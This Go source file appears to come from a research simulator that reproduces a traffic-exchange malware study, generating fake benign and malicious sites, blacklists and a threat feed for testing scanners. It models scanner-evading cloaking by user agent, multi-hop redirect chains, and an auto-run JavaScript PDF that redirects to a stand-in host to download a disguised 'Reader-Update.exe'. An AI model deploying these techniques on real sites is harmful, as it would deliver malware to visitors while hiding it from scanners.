package web

import (
	"fmt"
	"net/url"
	"strings"
	"sync"

	"repro/internal/blacklist"
	"repro/internal/htmlparse"
	"repro/internal/httpsim"
	"repro/internal/match"
	"repro/internal/pdf"
	"repro/internal/scanner"
	"repro/internal/shortener"
	"repro/internal/simrand"
	"repro/internal/urlutil"
)

// Config tunes universe generation.
type Config struct {
	// Seed drives every random decision; equal seeds give identical
	// universes.
	Seed uint64
	// BenignSites and MaliciousSites are the global site pool sizes.
	BenignSites    int
	MaliciousSites int
	// CloakFraction is the share of cloakable malicious sites (JS and
	// Miscellaneous kinds) that serve clean pages to scanner bots.
	CloakFraction float64
	// NestedShortenFraction is the share of shortened-malicious entries
	// that nest one shortener inside another.
	NestedShortenFraction float64
}

// DefaultConfig returns the calibration used by the experiments at unit
// scale.
func DefaultConfig() Config {
	return Config{
		Seed:                  1,
		BenignSites:           800,
		MaliciousSites:        160,
		CloakFraction:         0.25,
		NestedShortenFraction: 0.3,
	}
}

// KindWeights is the per-URL-observation probability of each malicious
// kind, calibrated to Table III: among categorized malware, Blacklisted
// 74.8%, JS 18.8%, Redirect 5.8%, Shortened 0.5%, Flash 0.1%; and the
// Miscellaneous bucket is 142,405 of 214,527 malicious URLs (66.4%).
func KindWeights() map[MaliceKind]float64 {
	const categorized = 1 - 0.6638
	return map[MaliceKind]float64{
		Miscellaneous:      0.6638,
		Blacklisted:        0.748 * categorized,
		MaliciousJS:        0.188 * categorized,
		Redirector:         0.058 * categorized,
		ShortenedMalicious: 0.005 * categorized,
		MaliciousFlash:     0.001 * categorized,
	}
}

// kindOrder fixes iteration order for deterministic sampling.
var kindOrder = []MaliceKind{
	Miscellaneous, Blacklisted, MaliciousJS, Redirector, ShortenedMalicious, MaliciousFlash,
}

// tldWeights is the Figure 6 mix for malicious sites (com 70%, net 22%,
// de 2%, org 1%, others 5%).
var tldNames = []string{"com", "net", "de", "org", "ru", "info", "biz", "es", "hu"}
var tldWeights = []float64{0.70, 0.22, 0.02, 0.01, 0.02, 0.01, 0.01, 0.005, 0.005}

// categoryWeights is the Figure 7 mix for malicious sites.
var categoryNames = []Category{CatBusiness, CatAdvertisement, CatEntertainment, CatIT, CatOther}
var categoryWeights = []float64{0.586, 0.218, 0.087, 0.086, 0.026}

// chainLenWeights is the Figure 5 redirect-hop mix for chain lengths 1-7.
var chainLenWeights = []float64{0.35, 0.25, 0.16, 0.10, 0.07, 0.04, 0.03}

// jsVariants lists the MaliciousJS behaviours with their plant mix. The
// iframe-injection variants dominate, as §V-A reports.
var jsVariants = []JSVariant{JSTinyIframe, JSInvisibleIframe, JSObfuscatedInjection, JSDeceptiveDownload, JSFingerprinting}
var jsVariantWeights = []float64{0.30, 0.20, 0.30, 0.12, 0.08}

// minimum site counts per kind so every exchange pool can hold at least
// one of each rare kind.
var kindMinimums = map[MaliceKind]int{
	Miscellaneous:      20,
	Blacklisted:        20,
	MaliciousJS:        18,
	Redirector:         14,
	ShortenedMalicious: 10,
	MaliciousFlash:     10,
}

// Generate builds the universe at epoch zero of a single-epoch study.
func Generate(cfg Config) *Universe {
	return GenerateEpoch(cfg, EpochParams{})
}

// GenerateEpoch builds the universe as it stands at ep.Epoch: the base
// population is generated exactly as at epoch zero (same draws, same
// order), then the churn passes 1..Epoch re-register malicious sites, and
// the intel layer is built from the identities of epoch Epoch-BlacklistLag.
// Site registration itself draws nothing, so a zero EpochParams yields a
// universe bit-identical to Generate's pre-longitudinal output.
//
// A longitudinal chain only needs the from-scratch path once: epoch N+1's
// universe is reachable from epoch N's via the incremental AdvanceEpoch
// (see advance.go), which skips the O(N) churn replay and shares the
// render cache.
func GenerateEpoch(cfg Config, ep EpochParams) *Universe {
	rng := simrand.New(cfg.Seed)
	ordered, used := basePopulation(cfg, rng)
	changed := applyChurn(rng, ep, 1, ordered, used)
	return assembleUniverse(cfg, ep, rng, ordered, used, changed, NewRenderCache())
}

// basePopulation generates the epoch-zero site prototypes in their fixed
// order. Every draw comes from a named substream of rng, so the result is
// independent of what else has been drawn from rng itself.
func basePopulation(cfg Config, rng *simrand.Source) ([]*Site, map[string]bool) {
	nameRng := rng.Sub("names")
	used := map[string]bool{}

	// Benign sites.
	ordered := make([]*Site, 0, cfg.BenignSites+cfg.MaliciousSites)
	benignRng := rng.Sub("benign")
	for i := 0; i < cfg.BenignSites; i++ {
		s := &Site{
			Host:          uniqueDomain(nameRng, used),
			Category:      simrand.WeightedPick(benignRng, categoryNames, categoryWeights),
			Kind:          Benign,
			HasAnalytics:  benignRng.Bool(0.15),
			HasOAuthFrame: benignRng.Bool(0.04),
			HasBrochure:   benignRng.Bool(0.08),
		}
		s.TLD = urlutil.TLD(s.Host)
		s.Pages = makePages(benignRng)
		s.EntryURL = "http://" + s.Host + "/"
		ordered = append(ordered, s)
	}

	// Malicious sites: honor minimums, distribute the rest by weights.
	counts := kindCounts(cfg.MaliciousSites)
	malRng := rng.Sub("malicious")
	cloakRng := rng.Sub("cloak")
	for _, kind := range kindOrder {
		for i := 0; i < counts[kind]; i++ {
			s := &Site{
				Host:        uniqueDomain(nameRng, used),
				Category:    simrand.WeightedPick(malRng, categoryNames, categoryWeights),
				Kind:        kind,
				FamilyToken: "fam_" + malRng.LowerToken(3) + "_" + malRng.Token(8),
			}
			s.TLD = urlutil.TLD(s.Host)
			s.Pages = makePages(malRng)
			s.EntryURL = "http://" + s.Host + "/"
			switch kind {
			case MaliciousJS:
				s.Variant = simrand.WeightedPick(malRng, jsVariants, jsVariantWeights)
				s.Cloaked = cloakRng.Bool(cfg.CloakFraction)
			case Miscellaneous:
				s.Cloaked = cloakRng.Bool(cfg.CloakFraction)
			case Redirector:
				s.ChainLen = 1 + simrand.NewWeighted(chainLenWeights).Sample(malRng)
			}
			ordered = append(ordered, s)
		}
	}
	return ordered, used
}

// assembleUniverse builds a Universe from post-churn site prototypes: the
// shared tail of GenerateEpoch and AdvanceEpoch. ordered has had the churn
// passes applied but not the shortener aliasing; every draw below comes
// from a named substream, so the bytes are identical whichever entry point
// produced the prototypes.
func assembleUniverse(cfg Config, ep EpochParams, rng *simrand.Source, ordered []*Site, used map[string]bool, changed []*Site, renders *RenderCache) *Universe {
	u := &Universe{
		Internet:      httpsim.NewInternet(),
		Shorteners:    shortener.NewRegistry(),
		Feed:          scanner.NewThreatFeed(),
		PopularHosts:  make(map[string]bool),
		Epoch:         ep,
		ChangedSites:  changed,
		cfg:           cfg,
		renders:       renders,
		byKind:        make(map[MaliceKind][]*Site),
		truthByDomain: make(map[string]MaliceKind),
		truthByEntry:  make(map[string]*Site),
	}

	ctx := u.registerInfrastructure(rng.Sub("infra"))
	u.registerPopularSites(rng.Sub("popular"))
	shortSvcs := u.registerShorteners()

	// Prototype snapshot for AdvanceEpoch: the post-churn, pre-shorten
	// site state (the aliasing below mutates EntryURLs) plus every domain
	// ever drawn (churned hosts must never be re-drawn).
	u.protoSites = cloneSites(ordered)
	u.protoUsed = cloneStringSet(used)

	for _, s := range ordered {
		u.addSite(s)
	}

	// Shortened-malicious entry aliases.
	shortRng := rng.Sub("shorten")
	for _, s := range u.byKind[ShortenedMalicious] {
		svc := simrand.Pick(shortRng, shortSvcs)
		alias := svc.Shorten(s.EntryURL)
		if shortRng.Bool(cfg.NestedShortenFraction) {
			outer := simrand.Pick(shortRng, shortSvcs)
			alias = outer.Shorten(alias)
		}
		s.EntryURL = alias
		u.truthByEntry[alias] = s
	}

	u.registerSiteHandlers(rng, ctx)
	u.buildBlacklistsAndFeed(rng.Sub("intel"), ctx, ep)
	return u
}

// uniqueDomain draws a fresh synthetic domain with the Figure 6 TLD mix.
func uniqueDomain(rng *simrand.Source, used map[string]bool) string {
	for {
		tld := simrand.WeightedPick(rng, tldNames, tldWeights)
		host := fmt.Sprintf("%s%d.%s", rng.Word(4, 9), rng.Range(10, 999), tld)
		if !used[host] {
			used[host] = true
			return host
		}
	}
}

func makePages(rng *simrand.Source) []string {
	n := rng.Range(1, 5)
	pages := []string{"/"}
	seen := map[string]bool{"/": true}
	for len(pages) < n+1 {
		p := "/" + rng.Word(4, 8)
		if !seen[p] {
			seen[p] = true
			pages = append(pages, p)
		}
	}
	return pages
}

// kindCounts allocates site counts per kind: minimums first, remainder by
// URL-observation weights.
func kindCounts(total int) map[MaliceKind]int {
	counts := make(map[MaliceKind]int, len(kindOrder))
	spent := 0
	for _, k := range kindOrder {
		m := kindMinimums[k]
		counts[k] = m
		spent += m
	}
	if spent >= total {
		return counts
	}
	weights := KindWeights()
	remaining := total - spent
	// Largest-remainder apportionment over the fixed kind order.
	allocated := 0
	fracs := make([]float64, len(kindOrder))
	for i, k := range kindOrder {
		exact := weights[k] * float64(remaining)
		whole := int(exact)
		counts[k] += whole
		allocated += whole
		fracs[i] = exact - float64(whole)
	}
	for allocated < remaining {
		best, bestFrac := 0, -1.0
		for i, f := range fracs {
			if f > bestFrac {
				best, bestFrac = i, f
			}
		}
		counts[kindOrder[best]]++
		fracs[best] = -1
		allocated++
	}
	return counts
}

func (u *Universe) addSite(s *Site) {
	u.Sites = append(u.Sites, s)
	u.byKind[s.Kind] = append(u.byKind[s.Kind], s)
	u.truthByDomain[urlutil.RegisteredDomain(s.Host)] = s.Kind
	u.truthByEntry[s.EntryURL] = s
}

// pageCache memoizes a site's rendered responses. Every render draws from
// a pooled source reseeded to the per-(host, path) substream (see
// simrand.Borrow), so a response is a pure function of (site, path,
// bot-variant): the first render's bytes are every render's bytes. Each
// render fills a pooled scratch buffer and is copied once into an
// exact-size body that belongs to the cache for good (see renderHTML).
// Rendering — rng seeding, word generation, body building — dominated
// the whole pipeline's CPU and allocation profile before memoization; a
// cache hit is two map probes and allocates nothing. The cache stores
// immutable templates and hands every request the template itself:
// serve completes a template before publishing it (meta-refresh stamp,
// default content type, and the latency of the URL it was rendered
// for), the transport never writes to a response, and the fault
// injector degrades a copy. A request that spells the path's URL
// differently (another query string, say) gets its own latency from a
// completed copy the transport makes (see httpsim.Response.Complete).
type pageCache struct {
	limit int
	// stats aggregates traffic into the owning RenderCache's counters;
	// see the renderStats determinism contract in advance.go.
	stats *renderStats
	mu    sync.RWMutex
	user  map[string]*httpsim.Response
	bot   map[string]*httpsim.Response
}

// serve returns the memoized response for (key, bot), rendering and
// (capacity permitting) caching on miss; url is the request's URL, which
// a fresh render is completed for. Renders are deterministic, so a
// concurrent double-render produces identical bytes and either copy may
// win the insert race; only the winner's insert counts as the miss.
func (c *pageCache) serve(key, url string, bot bool, render func() *httpsim.Response) *httpsim.Response {
	m := c.user
	if bot {
		m = c.bot
	}
	c.mu.RLock()
	tmpl := m[key]
	c.mu.RUnlock()
	if tmpl != nil {
		c.stats.hits.Add(1)
		return tmpl
	}
	tmpl = render()
	// Complete the template while it is still private: once published
	// under the lock, concurrent serves share it and a late write would
	// race. The meta-refresh stamp turns the client's per-fetch body
	// scan into a field read for every serve of this render (see
	// httpsim.Response.MetaRefresh).
	tmpl.MetaRefresh = MetaRefreshTarget(tmpl.Body)
	tmpl.MetaRefreshKnown = true
	tmpl.Complete(url)
	c.mu.Lock()
	if cached, ok := m[key]; ok {
		tmpl = cached
		c.stats.hits.Add(1)
	} else if len(m) < c.limit {
		m[key] = tmpl
		c.stats.misses.Add(1)
	} else {
		c.stats.uncached.Add(1)
	}
	c.mu.Unlock()
	return tmpl
}

// sitePageCacheLimit bounds per-site caches. Sites serve at most a
// handful of fixed pages; the limit only matters for Redirector hosts,
// which answer on any path.
const sitePageCacheLimit = 128

// registerSiteHandlers installs an httpsim handler per site. Page caches
// come from the universe's RenderCache keyed by host, so a host carried
// over from the previous epoch keeps its rendered pages.
func (u *Universe) registerSiteHandlers(rng *simrand.Source, ctx renderCtx) {
	bridges := u.bridgeHosts()
	for _, site := range u.Sites {
		s := site
		cache := u.renders.site(s.Host)
		u.Internet.Register(s.Host, func(req *httpsim.Request) *httpsim.Response {
			return u.serveSite(s, req, rng, ctx, bridges, cache)
		})
		if s.Kind == Redirector {
			u.registerLandingHost(s, ctx)
		}
	}
}

func (u *Universe) serveSite(s *Site, req *httpsim.Request, rng *simrand.Source, ctx renderCtx, bridges []string, cache *pageCache) *httpsim.Response {
	p, err := urlutil.Parse(req.URL)
	if err != nil {
		return httpsim.NotFound()
	}
	path := p.Path
	if s.HasBrochure && path == "/brochure.pdf" {
		return cache.serve(path, req.URL, false, func() *httpsim.Response {
			return httpsim.Binary("application/pdf", pdf.NewBuilder().Encode())
		})
	}
	if !containsPath(s.Pages, path) && s.Kind != Redirector {
		return httpsim.NotFound()
	}
	bot := s.Cloaked && looksLikeScannerBot(req.UserAgent)
	return cache.serve(path, req.URL, bot, func() *httpsim.Response {
		// Deterministic per-page randomness, independent of request order.
		pageRng := rng.Borrow("page:", s.Host, path)
		defer pageRng.Release()
		if bot {
			return renderHTML(func(b []byte) []byte { return cleanVariant(b, s, path, pageRng) })
		}
		switch s.Kind {
		case Benign:
			return renderHTML(func(b []byte) []byte { return renderBenignPage(b, s, path, pageRng) })
		case Blacklisted:
			return renderHTML(func(b []byte) []byte { return renderBlacklistedPage(b, s, path, pageRng, ctx) })
		case MaliciousJS:
			return renderHTML(func(b []byte) []byte { return renderJSMalwarePage(b, s, path, pageRng, ctx) })
		case MaliciousFlash:
			return renderHTML(func(b []byte) []byte { return renderFlashMalwarePage(b, s, path, pageRng, ctx) })
		case Miscellaneous, ShortenedMalicious:
			return renderHTML(func(b []byte) []byte { return renderMiscMalwarePage(b, s, path, pageRng) })
		case Redirector:
			return u.serveRedirectorHop(s, bridges, pageRng)
		}
		return httpsim.NotFound()
	})
}

// renderBufs recycles render scratch buffers. A page renders into a
// pooled buffer and is then copied once into an exact-size body; the
// body is always a fresh allocation and never goes back to a pool,
// because the page cache and the record-identity memos downstream name a
// body by its backing array and length, and a recycled array would hand
// one page's verdict to another.
var renderBufs = sync.Pool{New: func() any { b := make([]byte, 0, 4096); return &b }}

// maxPooledRenderBuf caps the scratch buffers kept for reuse, so one
// oversized render cannot pin its buffer in the pool.
const maxPooledRenderBuf = 16 << 10

// renderHTML runs render on a pooled scratch buffer and returns a 200
// text/html response whose body is an exact-size copy of what it appended.
func renderHTML(render func(b []byte) []byte) *httpsim.Response {
	bp := renderBufs.Get().(*[]byte)
	b := render((*bp)[:0])
	body := make([]byte, len(b))
	copy(body, b)
	if cap(b) <= maxPooledRenderBuf {
		*bp = b
		renderBufs.Put(bp)
	}
	return &httpsim.Response{StatusCode: 200, ContentType: "text/html", Body: body}
}

// serveRedirectorHop begins the site's redirect chain: the entry 302s to
// the first bridge with the remaining chain encoded hop-by-hop.
func (u *Universe) serveRedirectorHop(s *Site, bridges []string, rng *simrand.Source) *httpsim.Response {
	landing := "http://" + landingHostFor(s) + "/offer"
	if s.ChainLen <= 1 {
		return httpsim.Redirect(landing)
	}
	// Build the intermediate hop list: ChainLen-1 bridge hops then the
	// landing URL.
	next := landing
	for i := s.ChainLen - 1; i >= 1; i-- {
		bridge := bridges[i%len(bridges)]
		kind := "302"
		if i == s.ChainLen-1 && s.ChainLen >= 3 {
			kind = "meta" // Figure 4: the last hop is a meta refresh
		}
		next = fmt.Sprintf("http://%s/ct?cid=%s&kind=%s&next=%s",
			bridge, rng.Token(8), kind, url.QueryEscape(next))
	}
	return httpsim.Redirect(next)
}

func landingHostFor(s *Site) string { return landingHostForHost(s.Host) }

// landingHostForHost derives the landing host for a redirector identity;
// the intel build needs it for lagged (pre-churn) hosts too.
func landingHostForHost(host string) string {
	return "land-" + strings.ReplaceAll(host, ".", "-") + ".net"
}

func (u *Universe) registerLandingHost(s *Site, ctx renderCtx) {
	host := landingHostFor(s)
	// The landing page ignores the request entirely, so one cache slot
	// serves every path; it draws no randomness, so the render is a pure
	// function of the host, reusable across epochs like any page.
	cache := u.renders.site(host)
	u.Internet.Register(host, func(req *httpsim.Request) *httpsim.Response {
		return cache.serve("/", req.URL, false, func() *httpsim.Response {
			return renderHTML(func(b []byte) []byte { return renderLandingPage(b, s, ctx) })
		})
	})
	u.truthByDomain[urlutil.RegisteredDomain(host)] = Redirector
}

func containsPath(pages []string, p string) bool {
	for _, page := range pages {
		if page == p {
			return true
		}
	}
	return false
}

func looksLikeScannerBot(ua string) bool {
	return match.ContainsFold(ua, "bot") || match.ContainsFold(ua, "scanner") ||
		match.ContainsFold(ua, "crawler") || ua == ""
}

// static wraps a prebuilt response template as a handler that serves it
// on every path; the transport completes a copy for each request's URL.
func static(tmpl *httpsim.Response) httpsim.Handler {
	return func(*httpsim.Request) *httpsim.Response { return tmpl }
}

// --- infrastructure ---

func (u *Universe) bridgeHosts() []string {
	out := make([]string, 6)
	for i := range out {
		out[i] = fmt.Sprintf("bridge%d.ampx-sim.net", i+1)
	}
	return out
}

func (u *Universe) registerInfrastructure(rng *simrand.Source) renderCtx {
	ctx := renderCtx{
		payloadHost:   "t.qservz-sim.com",
		adHost:        "visadd-sim.com",
		dropHost:      "yupfiles-sim.net",
		swfHost:       "static.yupfiles-sim.net",
		analyticsHost: "www.simalytics.net",
		oauthHost:     "accounts.google.sim",
	}

	// Payload host: the content hidden iframes load.
	u.Internet.Register(ctx.payloadHost, static(httpsim.HTML(`<html><body><script>var qz_dropper_stage2 = 1;</script></body></html>`)))
	u.truthByDomain[urlutil.RegisteredDomain(ctx.payloadHost)] = Miscellaneous

	// Bogus ad network (the visadd.com analog the paper saw across most
	// exchanges).
	u.Internet.Register(ctx.adHost, static(httpsim.HTML(`<html><body><a href="http://`+ctx.dropHost+`/get?f=offer.exe">WIN BIG</a><script>var va_net_beacon = 1;</script></body></html>`)))
	u.truthByDomain[urlutil.RegisteredDomain(ctx.adHost)] = Blacklisted

	// Executable dropper; also serves the exploit document (an
	// auto-open-JavaScript PDF that pulls the executable — the
	// "malformed PDFs commonly used by attackers" of §III-B).
	exploitPDF := pdf.NewBuilder().
		AddJavaScriptAction(`window.location.href = "http://` + ctx.dropHost + `/c?downloadAs=Reader-Update.exe"; var yf_dropper_payload = 1;`).
		BreakXref().
		Encode()
	pdfResp := httpsim.Binary("application/pdf", exploitPDF)
	exeResp := httpsim.Binary("application/octet-stream",
		append([]byte("MZ\x90\x00"), []byte("yf_dropper_payload Flash-Player.exe simulation")...))
	u.Internet.Register(ctx.dropHost, func(req *httpsim.Request) *httpsim.Response {
		if strings.Contains(req.URL, ".pdf") {
			return pdfResp
		}
		return exeResp
	})
	u.truthByDomain[urlutil.RegisteredDomain(ctx.dropHost)] = Miscellaneous

	// SWF CDN: serves an AdFlash movie for any /swf/*.swf path.
	swfRng := rng.Sub("swf")
	swfResp := httpsim.Flash(buildAdFlashMovie(swfRng))
	u.Internet.Register(ctx.swfHost, func(req *httpsim.Request) *httpsim.Response {
		if strings.Contains(req.URL, ".swf") {
			return swfResp
		}
		return httpsim.NotFound()
	})

	// Redirect bridges: parse ?next= and forward by 302 or meta refresh.
	// Bridge responses are pure functions of the request URL, so one
	// bounded cache — shared across epochs via the RenderCache — serves
	// all six bridge hosts.
	bridgeCache := u.renders.bridge
	bridge := func(req *httpsim.Request) *httpsim.Response {
		return bridgeCache.serve(req.URL, req.URL, false, func() *httpsim.Response {
			return bridgeRespond(req)
		})
	}
	for _, b := range u.bridgeHosts() {
		u.Internet.Register(b, bridge)
		u.truthByDomain[urlutil.RegisteredDomain(b)] = Redirector
	}

	// Benign infrastructure.
	u.Internet.Register(ctx.analyticsHost, static(httpsim.Script(`var ga = function() {}; /* simalytics loader */`)))
	u.Internet.Register(ctx.oauthHost, static(httpsim.HTML(`<html><body><script>var relay = "postmessage";</script></body></html>`)))
	return ctx
}

// bridgeRespond forwards ?next= targets, by meta refresh when ?kind=meta.
func bridgeRespond(req *httpsim.Request) *httpsim.Response {
	p, err := urlutil.Parse(req.URL)
	if err != nil {
		return httpsim.NotFound()
	}
	q, err := url.ParseQuery(p.Query)
	if err != nil {
		return httpsim.NotFound()
	}
	next := q.Get("next")
	if next == "" {
		return httpsim.NotFound()
	}
	if q.Get("kind") == "meta" {
		return httpsim.HTML(fmt.Sprintf(
			`<html><head><meta http-equiv="refresh" content="0; url=%s"></head><body>Redirecting...</body></html>`, next))
	}
	return httpsim.Redirect(next)
}

func (u *Universe) registerPopularSites(rng *simrand.Source) {
	popular := []struct {
		host  string
		paths []string
	}{
		{"google.sim", []string{"/", "/search?q=traffic"}},
		{"facebook.sim", []string{"/", "/pages/trending"}},
		{"youtube.sim", []string{"/", "/watch?v=dQw4w9sim", "/watch?v=kJQP7sim"}},
		{"twitter.sim", []string{"/"}},
		{"wikipedia.sim", []string{"/", "/wiki/Traffic_exchange"}},
		{"ajax.googleapis.sim", []string{"/ajax/libs/jquery/1.11.3/jquery.min.js"}},
	}
	for _, p := range popular {
		host := p.host
		u.Internet.Register(host, static(httpsim.HTML(
			fmt.Sprintf("<html><head><title>%s</title></head><body><h1>%s</h1></body></html>", host, host))))
		u.PopularHosts[host] = true
		u.truthByDomain[urlutil.RegisteredDomain(host)] = Benign
		for _, path := range p.paths {
			u.PopularURLs = append(u.PopularURLs, "http://"+host+path)
		}
	}
}

var shortenerHosts = []string{"goo.gl.sim", "bit.ly.sim", "tiny.cc.sim", "j.mp.sim", "zapit.nu.sim", "tr.im.sim"}

func (u *Universe) registerShorteners() []*shortener.Service {
	out := make([]*shortener.Service, 0, len(shortenerHosts))
	for _, h := range shortenerHosts {
		out = append(out, u.Shorteners.Add(h, u.Internet))
	}
	return out
}

// buildBlacklistsAndFeed derives the intelligence layer from the planted
// population: blacklist databases list the blacklisted-kind domains and
// malicious infrastructure; the threat feed additionally knows the family
// tokens (every planted family is assumed known to the AV industry in
// aggregate — per-engine coverage is where partial knowledge is modeled).
//
// In a longitudinal build the intel layer LAGS ground truth: it is derived
// from the site identities of epoch max(0, Epoch-BlacklistLag), so a site
// that re-registered inside the lag window is known by its old domain and
// old family token while the crawl sees its new ones. The draw sequence
// per site is identical at every lag — only the strings fed in differ —
// so epoch 0 (or lag 0) reproduces the pre-longitudinal bytes exactly.
func (u *Universe) buildBlacklistsAndFeed(rng *simrand.Source, ctx renderCtx, ep EpochParams) {
	intelEpoch := ep.Epoch - ep.BlacklistLag
	if intelEpoch < 0 {
		intelEpoch = 0
	}
	var badDomains []string
	add := func(domain string) { badDomains = append(badDomains, domain) }

	for _, s := range u.byKind[Blacklisted] {
		host := s.IdentityAt(intelEpoch).Host
		add(host)
		u.Feed.AddDomain(host, scanner.LabelBlacklisted)
	}
	for _, s := range u.byKind[Redirector] {
		// The landing domain is the known-bad endpoint; the entry domain
		// is the "seemingly benign" face the paper describes.
		landing := landingHostForHost(s.IdentityAt(intelEpoch).Host)
		add(landing)
		u.Feed.AddDomain(landing, scanner.LabelScriptGeneric)
	}
	for _, infra := range []struct{ host, label string }{
		{ctx.payloadHost, scanner.LabelIframeRef},
		{ctx.adHost, scanner.LabelBlacklisted},
		{ctx.dropHost, scanner.LabelHeuristicJS},
		{ctx.swfHost, scanner.LabelBlacoleNV},
	} {
		add(infra.host)
		u.Feed.AddDomain(infra.host, infra.label)
	}

	// Family token signatures: all planted families, as known at the
	// intel epoch.
	feedRng := rng.Sub("feed")
	for _, s := range u.MaliciousSites() {
		label := labelForKind(s.Kind, s.Variant)
		id := s.IdentityAt(intelEpoch)
		u.Feed.AddToken(id.FamilyToken, label)
		// Some JS/Flash/Misc domains are additionally known by domain.
		switch s.Kind {
		case MaliciousJS, MaliciousFlash, Miscellaneous, ShortenedMalicious:
			if feedRng.Bool(0.5) {
				u.Feed.AddDomain(id.Host, label)
			}
		}
	}
	// Infrastructure beacons double as content signatures.
	u.Feed.AddToken("qz_dropper_stage2", scanner.LabelIframeRef)
	u.Feed.AddToken("va_net_beacon", scanner.LabelBlacklisted)
	u.Feed.AddToken("yf_dropper_payload", scanner.LabelHeuristicJS)

	var benignDomains []string
	for _, s := range u.byKind[Benign] {
		benignDomains = append(benignDomains, s.Host)
	}
	bcfg := blacklist.DefaultBuildConfig()
	bcfg.Staleness = ep.Epoch - intelEpoch
	bcfg.DecayPerEpoch = ep.DecayPerEpoch
	u.Blacklists = blacklist.BuildStandardSet(rng.Sub("lists"), badDomains, benignDomains, bcfg)
}

func labelForKind(k MaliceKind, v JSVariant) string {
	switch k {
	case Blacklisted:
		return scanner.LabelBlacklisted
	case MaliciousJS:
		switch v {
		case JSDeceptiveDownload:
			return scanner.LabelHeuristicJS
		case JSObfuscatedInjection:
			return scanner.LabelScrInject
		default:
			return scanner.LabelIframeRef
		}
	case MaliciousFlash:
		return scanner.LabelBlacoleXM
	case Redirector:
		return scanner.LabelJSRedirector
	case ShortenedMalicious:
		return scanner.LabelScriptGeneric
	default:
		return scanner.LabelScriptGeneric
	}
}

// MetaRefreshTarget is the HTML-aware meta-refresh extractor clients plug
// into httpsim.Client. A meta refresh requires a literal http-equiv
// attribute in the source, so the one-pass scan skips the full parse for
// the overwhelming majority of pages that cannot contain one.
func MetaRefreshTarget(body []byte) string {
	if !match.ContainsFold(body, "http-equiv") {
		return ""
	}
	doc := htmlparse.Borrow(string(body))
	defer htmlparse.Release(doc)
	return doc.MetaRefresh()
}
